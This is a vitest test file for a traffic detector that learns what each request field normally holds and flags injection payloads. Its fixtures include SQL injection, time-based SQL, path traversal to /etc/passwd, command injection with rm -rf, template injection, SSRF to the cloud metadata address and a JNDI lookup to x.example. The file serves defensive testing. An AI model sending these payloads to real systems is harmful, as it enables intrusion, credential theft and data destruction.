import { describe, expect, it, test } from 'vitest'
import { Detection } from '../detection.ts'
import type { Signal } from '../signal.ts'
import { observations, traffic } from '../traffic.ts'
import { injectionPayload } from './injection-payload.ts'

function signalsOf(text: string, options: Readonly<Record<string, number>> = {}): readonly Signal[] {
  const detection = new Detection({
    detectors: [injectionPayload],
    graphDetectors: [],
    options: { 'injection-payload': options },
  })
  for (const o of observations(traffic(text))) detection.observe(o)
  return detection.signals()
}
const rulesOf = (text: string): unknown[] => signalsOf(text).map(({ observed }) => observed.rule)

const people = ['ann', 'bob', 'cid', 'dan', 'eve', 'fay']

describe('values and what their field was learned to hold', () => {
  const learned = 'learn ann,bob,cid GET /items?id={1..40} every 1m x 40 -> 200 {"items":[]}'.replace(
    '{1..40}',
    '12',
  )

  it('takes a quote in a field of numbers for a probe', () => {
    expect(rulesOf(`mallory GET /items?id=12%27 -> 500`)).toEqual([])
    expect(rulesOf(`${learned}\nmallory GET /items?id=12%27 -> 500`)).toEqual(['outside-of-field'])
    const [signal] = signalsOf(`${learned}\nmallory GET /items?id=12%27 -> 500`)
    expect(signal).toMatchObject({
      attempt: true,
      observed: { at: 'query:id', unusual: "no integer, as it always was; signs that it never held: '" },
    })
  })

  it('says nothing of values that are only new', () => {
    for (const value of ['7', '123456', 'abc', '-3', '1.5', 'a_b', ''])
      expect(rulesOf(`${learned}\nmallory GET /items?id=${value} -> 200 {"items":[]}`)).toEqual([])
  })

  it('lets a sign of an attack count where the value is outside of its field', () => {
    const address = 'http%3A%2F%2F10.0.0.5%2F'
    const field = 'learn ann,bob,cid GET /items?view=compact every 1m x 40 -> 200 {"items":[]}'
    expect(rulesOf(`mallory GET /items?view=${address} -> 200 {}`)).toEqual([])
    expect(rulesOf(`${field}\nmallory GET /items?view=${address} -> 200 {}`)).toEqual(['private-host'])
  })

  it('keeps quiet about signs that the field is used to', () => {
    const names = people
      .map(
        (who, index) =>
          `learn ${who} POST /people body={"name":"O'Brien (${index}); \\"Bo\\" & <Co>"} every 1h x 8 -> 201 {}`,
      )
      .join('\n')
    expect(
      rulesOf(`${names}\nmallory POST /people body={"name":"D'Arcy (Jr.); \\"Fitz\\" & <Sons>"} -> 201 {}`),
    ).toEqual([])
  })

  const live = (who: string, times: number, value: string): string =>
    `${who} GET /items?id=${value} every 1m x ${times} -> 200 {"items":[]}`

  it('learns from live traffic of five people over three days, not of one', () => {
    const one = live('ann', 300, '12')
    const five = [0, 1, 2]
      .map(() => `${people.map(who => live(who, 5, '12')).join('\n')}\nwait 24h`)
      .join('\n')
    expect(rulesOf(`${one}\nmallory GET /items?id=12%27 -> 500`)).toEqual([])
    expect(rulesOf(`${five}\nmallory GET /items?id=12%27 -> 500`)).toEqual(['outside-of-field'])
  })

  it('is taught nothing by refused and anonymous calls, nor by one account alone', () => {
    const five = [0, 1, 2]
      .map(() => `${people.map(who => live(who, 5, '12')).join('\n')}\nwait 24h`)
      .join('\n')
    const probe = 'eve2 GET /items?id=13%27 -> 500'
    for (const poison of [
      'anonymous GET /items?id=12%27 every 1s x 200 -> 200 {}',
      'mallory GET /items?id=12%27 every 1s x 200 -> 400',
    ])
      expect(rulesOf(`${five}\n${poison}\n${probe}`)).toContain('outside-of-field')
    const alone = signalsOf(
      `${five}\nmallory GET /items?id=12%3B every 1s x 200 -> 200 {}\neve2 GET /items?id=12%3B%3B -> 200 {}`,
    )
    expect(alone.map(({ principal }) => principal)).toContain('user:eve2')
  })

  it('forgets the longest unused field', () => {
    const detection = new Detection({
      detectors: [injectionPayload],
      graphDetectors: [],
      options: { 'injection-payload': { fields: 8 } },
    })
    const text = Array.from({ length: 40 }, (_, index) => `learn ann GET /a?f${index}=1 -> 200 {}`).join('\n')
    for (const o of observations(traffic(text))) detection.observe(o)
    expect(detection.stats.state['injection-payload']).toBeLessThanOrEqual(12)
  })
})

describe('fields that are meant for code', () => {
  const query = 'SELECT%20name%20FROM%20users%20WHERE%20id%3D1%20UNION%20SELECT%20name%20FROM%20teams'
  const history = `learn ann,bob,cid GET /console?sql=${query} every 1m x 4 -> 200 {"rows":[]}`

  it('are left alone, and no other field of the same request is', () => {
    expect(rulesOf(`dan GET /console?sql=${query} -> 200 {"rows":[]}`)).toHaveLength(1)
    expect(rulesOf(`${history}\ndan GET /console?sql=${query} -> 200 {"rows":[]}`)).toEqual([])
    const [signal] = signalsOf(
      `${history}\nmallory GET /console?sql=${query}&name=%27%20or%201=1-- -> 200 {"rows":[]}`,
    )
    expect(signal?.observed.at).toBe('query:name')
  })
})

describe('what came back', () => {
  const rows: readonly (readonly [line: string, trace: string | undefined, attempt: boolean])[] = [
    [
      'mallory GET /a?q=%27%20or%201=1-- -> 200 {"error":"You have an error in your SQL syntax"}',
      'sql syntax',
      false,
    ],
    ['mallory GET /a?q=%27%20or%201=1-- -> 500 {"error":"internal"}', undefined, true],
    [
      'mallory GET /a?f=../../etc/passwd -> 200 {"text":"root:x:0:0:root:/root:/bin/sh"}',
      'the users of the system',
      false,
    ],
    ['mallory GET /a?f=../../etc/passwd -> 404', undefined, true],
    [
      'mallory GET /a?f=;id -> 500 {"out":"uid=33(www-data) gid=33(www-data)"}',
      'who a process runs as',
      false,
    ],
    ['mallory GET /a?t={{7*7}} -> 200 {"greeting":"49"}', '49, computed from the payload', false],
    [
      'mallory GET /a?t={{1234*4321}} -> 200 {"greeting":"Hello 5332114!"}',
      '5332114, computed from the payload',
      false,
    ],
    ['mallory GET /a?t={{7*7}} -> 200 {"greeting":"Hello","price":49}', undefined, false],
    [
      'mallory GET /a?q=1%20and%20sleep(5) ms=5030 -> 200 {}',
      'an answer after 5.0 s, as long as it was told to wait',
      false,
    ],
    ['mallory GET /a?q=1%20and%20sleep(5) ms=40 -> 200 {}', undefined, false],
    [
      "mallory GET /a?q=1;waitfor%20delay%20'0:0:4'-- ms=4100 -> 500",
      'an answer after 4.1 s, as long as it was told to wait',
      false,
    ],
    [
      'mallory GET /a?u=http://169.254.169.254/ -> 200 {"AccessKeyId":"x","text":"\\"AccessKeyId\\" : \\"A\\""}',
      'credentials of the cloud',
      false,
    ],
  ]
  test.each(rows)('%s', (line, trace, attempt) => {
    const signals = signalsOf(line)
    expect(signals).toHaveLength(1)
    expect(signals[0]!.observed.trace).toBe(trace)
    expect(signals[0]!.attempt).toBe(attempt)
  })

  it('takes a slow answer for slow where the endpoint always is', () => {
    const slow = [0, 1, 2]
      .map(() => `learn ${people.join(',')} GET /a?q=1 ms=9000 every 1m x 30 -> 200 {}\nwait 24h`)
      .join('\n')
    expect(
      signalsOf(`${slow}\nmallory GET /a?q=1%20and%20sleep(5) ms=9100 -> 200 {}`)[0]!.observed.trace,
    ).toBeUndefined()
  })

  it('does not take the caller’s own words for an error of the server', () => {
    const quoted = `mallory GET /a?q=%27%20or%201=1--%20sql%20syntax -> 200 {"message":"nothing found for ' or 1=1-- sql syntax"}`
    expect(signalsOf(quoted)[0]!.observed.trace).toBeUndefined()
  })
})

describe('payloads that are quoted among sentences', () => {
  const sentences = [
    'Hello, my parcel has not arrived yet and the tracking page shows nothing new.',
    'Thank you for the quick reply, it works again now.',
    'Could you please send me the invoice of last month once more?',
    'ok thanks',
  ]
  const ticket = (body: string): string => `POST /tickets body=${JSON.stringify({ subject: 'Help', body })}`
  const learned = Array.from({ length: 6 }, () =>
    sentences.map(text => `learn ann,bob,cid ${ticket(text)} -> 201 {"ok":true}`).join('\n'),
  ).join('\n')
  const quoted = [
    'Hi, since the update the report page shows me: SELECT * FROM orders WHERE id = 1 OR 1=1; could you look?',
    "In the review I said that somebody could send ' OR 1=1 -- as the name and read all of it.",
    'I ran `curl -s http://localhost:9200/_cat/indices | sort; cat /etc/hosts` as you told me, and it hangs.',
    'Our page shows <script>alert(1)</script> as plain text, is that on purpose or a mistake?',
    'Your scanner says that ../../../../etc/passwd can be read through the old download page, can you check?',
    `My colleague asked what {{7*7}} or \${7*7} in the letter means, the customer saw it like that.`,
    "When I follow your guide the shell says nothing after '; rm -rf /tmp/cache; echo done' and then stops.",
  ]

  it('say little, whoever sends them, also in an import', () => {
    let raised = 0
    for (const text of quoted) {
      for (const line of [
        `dan ${ticket(text)}`,
        `eve kind=service POST /imports/tickets body=${JSON.stringify({ tickets: [{ body: sentences[0] }, { body: text }] })}`,
      ]) {
        for (const signal of signalsOf(`${learned}\n${line} -> 201 {"ok":true}`)) {
          expect([text, signal.severity, signal.confidence <= 0.5]).toEqual([text, 'low', true])
          raised += 1
        }
      }
    }
    expect(raised).toBeGreaterThan(quoted.length)
  })

  it('open no incident, however many of them a support desk imports', () => {
    const detection = new Detection({ detectors: [injectionPayload], graphDetectors: [] })
    const lines = quoted.map(text => `eve kind=service ${ticket(text)} x 5 -> 201 {"ok":true}`)
    for (const o of observations(traffic([learned, ...lines].join('\n')))) detection.observe(o)
    expect(detection.signals().length).toBeGreaterThan(2)
    expect(detection.incidents()).toEqual([])
  })

  it('are loud where they stand alone, in another field, or where the answer shows that they worked', () => {
    const loud: [string, string][] = [
      [`dan ${ticket("' UNION SELECT username, password FROM users--")} -> 201 {"ok":true}`, 'high'],
      [`dan GET /tickets?order=${encodeURIComponent(quoted[0]!)} -> 200 {"ok":true}`, 'high'],
      [
        `dan ${ticket(quoted[1]!)} -> 500 {"error":"You have an error in your SQL syntax; check the manual near '1=1'"}`,
        'critical',
      ],
      [
        `dan ${ticket(`Hello, please look at this new page for me: \${jndi:ldap://x.example/a}`)} -> 201 {"ok":true}`,
        'medium',
      ],
    ]
    for (const [line, severity] of loud) {
      const [signal] = signalsOf(`${learned}\n${line}`)
      expect([line, signal?.severity]).toEqual([line, severity])
    }
    expect(loud).toHaveLength(4)
  })

  it('are as loud as ever where nothing is known of the field, or it holds no sentences', () => {
    const names =
      'learn ann,bob,cid POST /tickets body={"subject":"Help","body":"order-{n}"} x 8 -> 201 {"ok":true}'
    for (const before of ['', `${names}\n`])
      expect(signalsOf(`${before}dan ${ticket(quoted[0]!)} -> 201 {"ok":true}`)[0]?.severity).toBe('high')
  })
})
